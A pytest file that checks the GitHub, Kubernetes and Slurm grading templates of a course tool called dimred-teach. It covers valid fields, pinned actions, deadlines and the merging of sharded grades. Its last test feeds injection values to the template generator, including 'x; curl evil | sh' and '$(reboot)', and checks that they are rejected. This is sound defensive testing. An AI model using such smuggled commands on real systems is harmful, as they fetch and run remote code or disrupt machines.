"""Issue 41: the templates that grade a class in shards on real engines
(``dimred-teach class-template github|slurm|kubernetes``): each is valid for its engine, has
the fields the engine needs, and its commands, run here as the engine would run them, give the
merged class. (The Slurm script runs on a real Slurm cluster in tests/slurm/test_slurm.py.)
Issue 51.4: the GitHub jobs install with the course's constraints, update apt first and pin
their actions by commit; the Kubernetes Jobs have deadlines and the merge names the shards that
never finished instead of waiting forever; the Slurm script takes no --install it would not use."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from dimred_teach.cli import main

pytestmark = pytest.mark.sandbox

ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
SHARDS = 2


PINNED = "dimred-teach @ git+https://example.org/course/dimred-teach@v1"


def template(tmp_path: Path, engine: str, *options: str) -> Path:
    out = tmp_path / f"{engine}.{'sh' if engine == 'slurm' else 'yml'}"
    if "--install" not in options and engine != "slurm":
        options = ("--install", PINNED, *options)
    assert main(["class-template", engine, "--shards", str(SHARDS), "--out", str(out), *options]) == 0
    return out


@pytest.fixture(scope="module")
def small_class(tmp_path_factory) -> Path:
    """Two demo students' notebooks of set 01, in ``submissions/``."""
    folder = tmp_path_factory.mktemp("engines")
    assert main(["demo-class", "--out", str(folder / "submissions"), "--size", "2", "--seed", "1", "--sets", "01",
                 "--root", str(ROOT)]) == 0
    return folder


def run(command: str, cwd: Path, status: int = 0, **environment: str) -> subprocess.CompletedProcess:
    done = subprocess.run(["bash", "-c", command], cwd=cwd, capture_output=True, text=True, timeout=600,
                          env={**os.environ, "PATH": f"{BIN}:{os.environ['PATH']}", **environment})
    assert done.returncode == status, (command, done.stdout[-2000:], done.stderr[-3000:])
    return done


def test_the_github_workflow_is_valid_and_its_shards_merge(tmp_path, small_class):
    path = template(tmp_path, "github", "--install", "dimred-teach==1.0")
    checked = subprocess.run([str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path)],
                             capture_output=True, text=True)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    workflow = yaml.safe_load(path.read_text())
    grade, merge = workflow["jobs"]["grade"], workflow["jobs"]["merge"]
    assert grade["strategy"]["matrix"]["shard"] == list(range(SHARDS)) and grade["strategy"]["fail-fast"] is False
    assert grade["env"]["DIMRED_TEACH_SHARD"] == "${{ matrix.shard }}/" + str(SHARDS)
    assert merge["needs"] == "grade" and merge["if"] == "always()"
    uploads = [step["with"]["name"] for step in merge["steps"] if step.get("uses", "").startswith("actions/upload")]
    assert uploads == ["class-report", "gradebook"]
    for job in (grade, merge):
        steps = job["steps"]
        assert all(re.fullmatch(r"[\w./-]+@[0-9a-f]{40}", step["uses"]) for step in steps if "uses" in step), steps
        installs = [step["run"] for step in steps if "pip install" in step.get("run", "")]
        assert installs == ['python -m pip install -c constraints.txt "dimred-teach==1.0"']
        assert steps[0]["uses"].startswith("actions/checkout@")  # the lecturer's repository: its constraints.txt
        assert job["timeout-minutes"] > 0
    sandbox = next(step["run"] for step in grade["steps"] if "apt-get install" in step.get("run", ""))
    assert sandbox.index("apt-get update") < sandbox.index("apt-get install")
    grading = next(step["run"] for step in grade["steps"] if "dimred-teach grade" in step.get("run", ""))
    merging = next(step["run"] for step in merge["steps"] if "dimred-teach merge" in step.get("run", ""))
    assert "--sandbox bwrap" in grading
    work = tmp_path / "runner"
    work.mkdir()
    (work / "submissions").symlink_to(small_class / "submissions")
    for shard in range(SHARDS):  # each matrix job, then the download of every artifact into shards/
        run(grading.replace("${{ matrix.shard }}", str(shard)), work, DIMRED_TEACH_SHARD=f"{shard}/{SHARDS}")
        (work / "shards").mkdir(exist_ok=True)
        (work / f"shard-{shard}").rename(work / "shards" / f"shard-{shard}")
    run(merging, work)
    assert "2 graded submission(s)" in (work / "class/class-report/index.html").read_text()
    assert len((work / "class/gradebook.csv").read_text().splitlines()) == 3


def test_the_kubernetes_indexed_job_has_its_fields_and_its_commands_merge(tmp_path, small_class):
    grade, merge = yaml.safe_load_all(template(tmp_path, "kubernetes", "--image", "example.org/course:1").read_text())
    assert (grade["kind"], grade["apiVersion"], merge["kind"]) == ("Job", "batch/v1", "Job")
    spec = grade["spec"]
    assert spec["completionMode"] == "Indexed" and spec["completions"] == spec["parallelism"] == SHARDS
    pod = spec["template"]["spec"]
    assert pod["restartPolicy"] == "Never" and pod["securityContext"]["seccompProfile"]["type"] == "Unconfined"
    container = pod["containers"][0]
    environment = {entry["name"]: entry.get("value") for entry in container["env"]}
    assert environment["DIMRED_TEACH_SHARDS"] == str(SHARDS) and container["image"] == "example.org/course:1"
    command = container["command"]
    assert command[:2] == ["sh", "-c"] and "$JOB_COMPLETION_INDEX" in command[2] and "--shard " in command[2]
    merge_container = merge["spec"]["template"]["spec"]["containers"][0]
    mounts = {m["mountPath"] for c in (container, merge_container) for m in c["volumeMounts"]}
    assert mounts == {environment["CLASS_DIR"]}
    (tmp_path / "submissions").symlink_to(small_class / "submissions")
    for index in range(SHARDS):  # each pod of the Indexed Job, with the variables Kubernetes and the manifest set
        run(command[2], tmp_path, CLASS_DIR=str(tmp_path), JOB_COMPLETION_INDEX=str(index),
            DIMRED_TEACH_SHARDS=str(SHARDS))
    run(merge_container["command"][2], tmp_path, CLASS_DIR=str(tmp_path), DIMRED_TEACH_SHARDS=str(SHARDS),
        DIMRED_TEACH_WAIT_SECONDS="60")
    assert len((tmp_path / "graded/class/gradebook.csv").read_text().splitlines()) == 3


def test_the_kubernetes_merge_fails_naming_the_shards_that_never_finished(tmp_path):
    """Issue 51.4: a lost shard once hung the merge Job forever. Both Jobs have a deadline, and
    the merge gives up when its wait is over, naming the missing shards, with an exit status
    its pod failure policy does not retry."""
    grade, merge = yaml.safe_load_all(template(tmp_path, "kubernetes").read_text())
    merge_spec = merge["spec"]
    container = merge_spec["template"]["spec"]["containers"][0]
    wait = int({entry["name"]: entry.get("value") for entry in container["env"]}["DIMRED_TEACH_WAIT_SECONDS"])
    assert 0 < grade["spec"]["activeDeadlineSeconds"] <= wait < merge_spec["activeDeadlineSeconds"]
    (rule,) = merge_spec["podFailurePolicy"]["rules"]
    assert rule["action"] == "FailJob" and rule["onExitCodes"] == {"containerName": "merge", "operator": "In",
                                                                    "values": [3]}
    (tmp_path / "graded").mkdir()
    (tmp_path / "graded" / "shard-0.done").touch()  # shard 1 of 2 never finished
    done = subprocess.run(["sh", "-c", container["command"][2]], cwd=tmp_path, capture_output=True, text=True,
                          timeout=60, env={**os.environ, "CLASS_DIR": str(tmp_path), "DIMRED_TEACH_SHARDS": "2",
                                           "DIMRED_TEACH_WAIT_SECONDS": "10"})
    assert done.returncode == 3, done
    assert (
        "error: shard(s) 1 of 2 did not finish within 10 s" in done.stderr and not (tmp_path / "graded/class").exists()
    )


def test_the_slurm_script_submits_an_array_and_a_dependent_merge(tmp_path):
    text = template(tmp_path, "slurm").read_text()
    submissions = re.findall(r"sbatch (.*?)<<JOB", text, re.DOTALL)
    assert len(submissions) == 2 and all("--time=" in command for command in submissions)  # neither waits forever
    assert subprocess.run(["bash", "-n", str(tmp_path / "slurm.sh")]).returncode == 0
    assert f"--array=0-{SHARDS - 1}" in text and '--dependency="afterany:' in text
    assert re.search(r'grade "\$submissions" --shard --sandbox bwrap', text)


@pytest.mark.parametrize("arguments, named", [
    (["kubernetes", "--shards", "0"], "--shards"),
    (["github", "--install", "x; curl evil | sh"], "--install"),
    (["kubernetes", "--image", "a b"], "--image"),
    (["slurm", "--submissions", "$(reboot)"], "--submissions"),
    (["slurm", "--install", PINNED], "--install: the slurm script installs nothing"),
    (["github", "--install"], "--install: the github template needs"),
])
def test_bad_template_arguments_are_named(tmp_path, capsys, arguments, named):
    install = [] if "--install" in arguments or arguments[0] == "slurm" else ["--install", PINNED]
    if arguments[-1] == "--install":
        arguments, install = arguments[:-1], []
    assert main(["class-template", *arguments, *install, "--out", str(tmp_path / "x")]) == 2
    assert named in capsys.readouterr().err and not (tmp_path / "x").exists()
